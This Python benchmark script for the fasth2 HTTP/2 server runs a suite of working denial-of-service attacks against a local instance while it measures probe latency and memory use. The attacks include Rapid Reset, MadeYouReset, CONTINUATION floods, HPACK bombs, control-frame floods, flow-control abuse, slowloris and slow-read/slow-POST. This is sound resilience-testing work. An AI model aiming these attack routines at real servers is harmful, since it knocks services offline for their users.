"""Every attack of ATTACKS.md at the scale an attacker uses, against one fasth2 process.

Run: python bench/attacks.py [--seconds 10] [--after 10] [--only NAME,...] [-- FASTH2 FLAGS]

The server runs ``bench.apps:wsgi_app`` on core 0 with its default settings; attackers
and the probe run here, on core 1. Each attack runs for ``--seconds`` while a probe
client asks for ``/`` on a connection of its own every 200 ms; then the harness waits
``--after`` seconds with no traffic. Per attack it prints the probe's median latency and
failures, and the server's RSS before, at its peak, and after the quiet spell. Goals
(issue 11): every probe answered; probe median <= max(10 x idle, 50 ms); RSS growth
<= 50 MiB during any attack; RSS within 20 MiB of the idle level after the last one.
"""

from __future__ import annotations

import argparse
import os
import random
import socket
import statistics
import sys
import threading
import time
from pathlib import Path

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame,
                              PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "bench"))

from compare import free_port, running_server  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 0x4
MAX_WINDOW = 2**31 - 1
BIG = "/mib-fresh"  # a new 1 MiB bytes object per request
STREAMED = "/stream-8mib"  # a generator: the app thread waits while the client reads
STREAMS = 100  # fasth2's default max_concurrent_streams


def request_headers(path: str = "/", method: str = "GET") -> list:
    return [(":method", method), (":scheme", "http"), (":authority", "bench"), (":path", path)]


class Attacker:
    """One raw HTTP/2 connection that sends what it is told and reads only if asked."""

    def __init__(self, port: int, settings: dict | None = None, rcvbuf: int | None = None,
                 read: bool = True) -> None:
        self.sock = socket.socket()
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.connect(("127.0.0.1", port))
        self.sock.settimeout(5)
        self.encoder = Encoder()
        frame = SettingsFrame(0)
        frame.settings = settings or {}
        self.send(PREFACE + frame.serialize())
        if read:  # drain whatever the server says, so that only the attack is measured
            threading.Thread(target=self._drain, daemon=True).start()

    def _drain(self) -> None:
        try:
            while self.sock.recv(1 << 16):
                pass
        except OSError:
            pass

    def send(self, data: bytes) -> bool:
        """Send; False once the server has closed the connection."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def headers(self, stream_id: int, path: str = "/", end_stream: bool = True,
                extra: list | None = None) -> bytes:
        flags = ["END_HEADERS", "END_STREAM"] if end_stream else ["END_HEADERS"]
        block = self.encoder.encode(request_headers(path, "GET" if end_stream else "POST")
                                    + (extra or []))
        return HeadersFrame(stream_id, data=block, flags=flags).serialize()

    def close(self) -> None:
        self.sock.close()


def repeat(stop: threading.Event, attacker: Attacker, batch, pause: float = 0.0) -> None:
    """Send ``batch(i)`` until stopped or closed (bounded: at most 10^6 batches)."""
    for index in range(1_000_000):
        if stop.is_set() or not attacker.send(batch(index)):
            return
        if pause:
            time.sleep(pause)


def on_connections(count: int, port: int, stop: threading.Event, attack, **options) -> None:
    """Run ``attack(attacker, stop)`` on ``count`` connections at once."""
    attackers = [Attacker(port, **options) for _ in range(count)]
    threads = [threading.Thread(target=attack, args=(a, stop), daemon=True) for a in attackers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for attacker in attackers:
        attacker.close()


# -- the attacks: each runs until ``stop`` is set --------------------------------------

def rapid_reset(port, stop):
    """CVE-2023-44487: streams opened and cancelled at once, 100 per write, 4 connections."""
    def attack(a, stop):
        repeat(stop, a, lambda i: b"".join(
            a.headers(1 + 2 * (100 * i + k)) + RstStreamFrame(1 + 2 * (100 * i + k), error_code=8).serialize()
            for k in range(100)))
    on_connections(4, port, stop, attack)


def made_you_reset(port, stop):
    """CVE-2025-8671: zero WINDOW_UPDATEs make the server reset, 100 streams per write."""
    def attack(a, stop):
        repeat(stop, a, lambda i: b"".join(
            a.headers(1 + 2 * (100 * i + k), BIG) + WindowUpdateFrame(1 + 2 * (100 * i + k)).serialize()
            for k in range(100)))
    on_connections(4, port, stop, attack)


def continuation_flood(port, stop):
    """HEADERS without END_HEADERS, then CONTINUATION frames forever, 4 connections."""
    def attack(a, stop):
        a.send(HeadersFrame(1, data=a.encoder.encode(request_headers())).serialize())
        block = ContinuationFrame(1, data=b"\x40\x01a\x01b" * 1000).serialize() * 10
        repeat(stop, a, lambda i: block)
    on_connections(4, port, stop, attack)


def hpack_bomb(port, stop):
    """One big header in the table, referenced thousands of times; new connections."""
    for _ in range(1000):
        if stop.is_set():
            return
        a = Attacker(port)
        block = a.encoder.encode(request_headers() + [("bomb", "x" * 4000)]) + b"\xbe" * 16000
        a.send(HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())
        time.sleep(0.02)
        a.close()


def zero_length_headers(port, stop):
    """CVE-2019-9516: empty header names and values, 50 requests per write."""
    def attack(a, stop):
        repeat(stop, a, lambda i: b"".join(a.headers(1 + 2 * (50 * i + k), extra=[("", "")])
                                           for k in range(50)))
    on_connections(4, port, stop, attack)


def control_flood(frame):
    def attack_all(port, stop):
        """Control frames that force replies, while never reading (4 connections)."""
        def attack(a, stop):
            a.sock.settimeout(1)
            repeat(stop, a, lambda i: frame.serialize() * 500)
        on_connections(4, port, stop, attack, rcvbuf=4096, read=False)
    return attack_all


def empty_frames(port, stop):
    """CVE-2019-9518: empty DATA frames without END_STREAM on an open upload."""
    def attack(a, stop):
        a.send(a.headers(1, "/upload", end_stream=False))
        repeat(stop, a, lambda i: DataFrame(1, data=b"").serialize() * 500)
    on_connections(4, port, stop, attack)


def priority_reshuffle(port, stop):
    """CVE-2019-9513: 50 open POST streams, 500 PRIORITY frames per write re-parenting
    at random among 4,000 ids."""
    def attack(a, stop):
        a.send(b"".join(a.headers(1 + 2 * k, "/upload", end_stream=False) for k in range(50)))
        rng = random.Random(7)
        repeat(stop, a, lambda i: b"".join(
            PriorityFrame(1 + 2 * rng.randrange(2000), depends_on=1 + 2 * rng.randrange(2000),
                          stream_weight=rng.randrange(256)).serialize() for _ in range(500)))
    on_connections(1, port, stop, attack)


def data_dribble(port, stop):
    """CVE-2019-9511: 4 x 100 streams of 1 MiB, initial window 1, connection window wide,
    then WINDOW_UPDATE(+1) on every stream every ~2 ms."""
    def attack(a, stop):
        a.send(WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65535).serialize()
               + b"".join(a.headers(1 + 2 * k, BIG) for k in range(STREAMS)))
        updates = b"".join(WindowUpdateFrame(1 + 2 * k, window_increment=1).serialize()
                           for k in range(STREAMS))
        repeat(stop, a, lambda i: updates, pause=0.002)
    on_connections(4, port, stop, attack, settings={INITIAL_WINDOW_SIZE: 1})


def internal_buffering(port, stop):
    """CVE-2019-9517: 8 x 100 streams of 1 MiB, every window at 2^31-1, a 4 KiB
    receive buffer, never reading."""
    def attack(a, stop):
        a.send(WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65535).serialize()
               + b"".join(a.headers(1 + 2 * k, BIG) for k in range(STREAMS)))
        stop.wait()
    on_connections(8, port, stop, attack, settings={INITIAL_WINDOW_SIZE: MAX_WINDOW},
                   rcvbuf=4096, read=False)


def stream_exhaustion(port, stop):
    """8 x (limit + 50) streams of 1 MiB with initial window 0, held open."""
    def attack(a, stop):
        a.send(b"".join(a.headers(1 + 2 * k, BIG) for k in range(STREAMS + 50)))
        stop.wait()
    on_connections(8, port, stop, attack, settings={INITIAL_WINDOW_SIZE: 0})


def slow_read_streams(port, stop):
    """Threads held by readers that never read: 8 connections x 100 streams of a
    streamed 8 MiB response, every window wide, a 4 KiB receive buffer; each second
    the attacker comes back with fresh connections."""
    def attack(a, stop):
        a.send(WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65535).serialize()
               + b"".join(a.headers(1 + 2 * k, STREAMED) for k in range(STREAMS)))
        stop.wait(1)
    while not stop.is_set():
        on_connections(8, port, stop, attack, settings={INITIAL_WINDOW_SIZE: MAX_WINDOW},
                       rcvbuf=4096, read=False)


def slow_read_http1(port, stop):
    """The same over HTTP/1.1: 32 connections ask for the streamed 8 MiB and never read;
    fresh ones every second."""
    while not stop.is_set():
        socks = []
        for _ in range(32):
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.connect(("127.0.0.1", port))
            sock.sendall(b"GET %s HTTP/1.1\r\nHost: bench\r\n\r\n" % STREAMED.encode())
            socks.append(sock)
        stop.wait(1)
        for sock in socks:
            sock.close()


def slow_post(port, stop):
    """Bodies announced and never sent: 8 connections x 100 POST streams declaring
    1 MiB and sending 1 KiB, the app threads waiting to read the rest; fresh
    connections every second."""
    def attack(a, stop):
        length = [("content-length", str(1024 * 1024))]
        a.send(b"".join(a.headers(1 + 2 * k, "/upload", end_stream=False, extra=length)
                        + DataFrame(1 + 2 * k, data=b"p" * 1024).serialize()
                        for k in range(STREAMS)))
        stop.wait(1)
    while not stop.is_set():
        on_connections(8, port, stop, attack)


def slowloris(port, stop):
    """500 connections that each trickle the preface, a byte every half second."""
    socks = []
    for _ in range(500):
        sock = socket.create_connection(("127.0.0.1", port))
        sock.setblocking(False)
        socks.append(sock)
    for index in range(len(PREFACE)):
        if stop.wait(0.5):
            break
        for sock in socks:
            try:
                sock.send(PREFACE[index:index + 1])
            except OSError:
                pass
    for sock in socks:
        sock.close()


def garbage(port, stop):
    """New connections sending a broken preface or TLS-looking garbage, as fast as possible."""
    for index in range(100_000):
        if stop.is_set():
            return
        with socket.create_connection(("127.0.0.1", port)) as sock:
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" if index % 2 else b"\x16\x03\x01garbage\r\n\r\n")


ATTACKS = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "zero-length-headers": zero_length_headers,
    "ping-flood": control_flood(PingFrame(0, opaque_data=b"12345678")),
    "settings-flood": control_flood(SettingsFrame(0)),
    "reset-flood": control_flood(RstStreamFrame(1, error_code=0)),
    "empty-frames": empty_frames,
    "priority-reshuffle": priority_reshuffle,
    "data-dribble": data_dribble,
    "internal-buffering": internal_buffering,
    "stream-exhaustion": stream_exhaustion,
    "slow-read-streams": slow_read_streams,
    "slow-read-http1": slow_read_http1,
    "slow-post": slow_post,
    "slowloris": slowloris,
    "garbage": garbage,
}


# -- measuring ---------------------------------------------------------------------

def rss_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


def probe_once(port: int) -> float | None:
    """Seconds for a new h2c connection's GET /, or None if it failed (5 s timeout)."""
    started = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
            encoder = Encoder()
            sock.sendall(PREFACE + SettingsFrame(0).serialize() + HeadersFrame(
                1, data=encoder.encode(request_headers()), flags=["END_HEADERS", "END_STREAM"]).serialize())
            received = b""
            while b"Hello, World!" not in received:
                chunk = sock.recv(65536)
                if not chunk:
                    return None
                received += chunk
    except OSError:
        return None
    return time.monotonic() - started


def run_attack(name: str, port: int, pid: int, seconds: float, after: float) -> dict:
    """Run one attack with probes; return the figures of one table row."""
    stop = threading.Event()
    before = rss_mib(pid)
    attack = threading.Thread(target=ATTACKS[name], args=(port, stop), daemon=True)
    attack.start()
    latencies, failures, peak = [], 0, before
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        latency = probe_once(port)
        if latency is None:
            failures += 1
        else:
            latencies.append(latency)
        peak = max(peak, rss_mib(pid))
        time.sleep(0.2)
    stop.set()
    attack.join(15)
    quiet_until = time.monotonic() + after
    while time.monotonic() < quiet_until:
        peak = max(peak, rss_mib(pid))
        time.sleep(0.2)
    return {"name": name, "p50": statistics.median(latencies) if latencies else None,
            "probes": len(latencies), "failures": failures, "before": before, "peak": peak,
            "after": rss_mib(pid)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=10.0, help="length of each attack")
    parser.add_argument("--after", type=float, default=10.0, help="quiet time after each")
    parser.add_argument("--only", help="comma-separated attack names (default: all)")
    parser.add_argument("server_flags", nargs="*", help="after --: flags for fasth2")
    args = parser.parse_args()
    names = args.only.split(",") if args.only else list(ATTACKS)
    os.sched_setaffinity(0, {1})  # the server has core 0
    port = free_port()
    command = [sys.executable, "-m", "fasth2", "-b", f"127.0.0.1:{port}", "--log-level",
               "error", *args.server_flags, "bench.apps:wsgi_app"]
    with running_server(command, port) as process:
        pid = process.pid  # taskset execs the server in place
        time.sleep(1)
        idle = statistics.median(probe_once(port) or 0 for _ in range(20))
        idle_rss = rss_mib(pid)
        goal = max(10 * idle, 0.050)
        print(f"idle: probe {idle * 1000:.1f} ms, RSS {idle_rss:.1f} MiB; probe goal "
              f"<= {goal * 1000:.0f} ms, growth <= 50 MiB, RSS after <= idle + 20 MiB\n")
        print(f"| attack | probe p50 | probes failed | RSS before | peak | {args.after:g} s after | goals |")
        print("|---|---|---|---|---|---|---|")
        worst_after = 0.0
        for name in names:
            row = run_attack(name, port, pid, args.seconds, args.after)
            worst_after = max(worst_after, row["after"] - idle_rss)
            met = (row["failures"] == 0 and row["p50"] is not None and row["p50"] <= goal
                   and row["peak"] - row["before"] <= 50)
            p50 = f"{row['p50'] * 1000:.1f} ms" if row["p50"] is not None else "none answered"
            print(f"| {name} | {p50} | {row['failures']} of {row['probes'] + row['failures']} "
                  f"| {row['before']:.1f} MiB | {row['peak']:.1f} MiB (+{row['peak'] - row['before']:.1f}) "
                  f"| {row['after']:.1f} MiB | {'met' if met else 'MISSED'} |", flush=True)
        print(f"\nRSS after the last attack: {rss_mib(pid):.1f} MiB (idle {idle_rss:.1f} MiB); "
              f"worst after any attack: +{worst_after:.1f} MiB")


if __name__ == "__main__":
    main()
